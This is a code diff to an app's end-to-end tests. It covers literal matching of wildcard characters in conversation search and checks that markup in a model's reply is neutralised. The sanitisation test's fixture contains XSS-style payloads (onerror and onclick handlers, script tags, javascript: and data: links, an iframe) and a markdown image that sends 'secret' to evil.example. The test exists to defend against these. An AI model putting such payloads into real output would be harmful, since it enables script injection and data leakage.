@@ -248,8 +248,13 @@ appTest(
     const list = page.getByRole('navigation', { name: 'Conversations' });
     await list.getByLabel('Search conversations').fill('carries');
     await list.getByRole('link', { name: /Carries and jumps/ }).waitFor();
-    await list.getByLabel('Search conversations').fill('zzzz');
-    await list.getByText(/nothing found/i).waitFor();
+    await list.getByLabel('Search conversations').fill('farmers CARRY');
+    await list.getByRole('link', { name: /Carries and jumps.*farmers carry/i }).waitFor();
+    // Signs that mean “anything” in a pattern stand for themselves.
+    for (const nowhere of ['zzzz', 'p*ce', '%%', 'p_ce', 'p.ce']) {
+      await list.getByLabel('Search conversations').fill(nowhere);
+      await list.getByText(`Nothing found for “${nowhere}”.`).waitFor();
+    }
     await list.getByLabel('Search conversations').fill('');
     await page.getByRole('button', { name: 'Rename or delete', exact: true }).click();
     await page.getByRole('button', { name: /delete conversation/i }).click();
@@ -267,6 +272,9 @@ appTest('what a model writes cannot run, load or lead anywhere harmful', async (
     'Harmless <b>words</b> <img src=x onerror="window.broken = 1"> <script>window.broken = 2</script>',
     '![steal](https://evil.example/pixel?q=secret) [go](javascript:window.broken=3) [there](https://evil.example/page)',
     '<iframe src="https://evil.example"></iframe> <a href="data:text/html,hi">data</a>',
+    '<!-- a note --> Words after a note.',
+    '<div onclick="window.broken = 4">Words in a block.</div>',
+    '| a | b |\n|---|---|\n| one<br>two | x |',
   ].join('\n\n');
   const device = await app.device({ session: athlete.session });
   const page = await device.newPage();
@@ -288,6 +296,10 @@ appTest('what a model writes cannot run, load or lead anywhere harmful', async (
   const reply = await finishedReply(page);
   await reply.getByText(/Harmless/).waitFor();
   assert.ok(replaced > 0);
+  // Nothing that was said is lost with the markup.
+  await reply.getByText('Words after a note.', { exact: true }).waitFor();
+  await reply.getByText('Words in a block.', { exact: true }).waitFor();
+  assert.equal(await reply.getByRole('cell', { name: /one\s*two/ }).locator('br').count(), 1);
   const found = await reply.evaluate((element) => ({
     broken: window.broken,
     images: element.querySelectorAll('img, iframe, script, object, form').length,
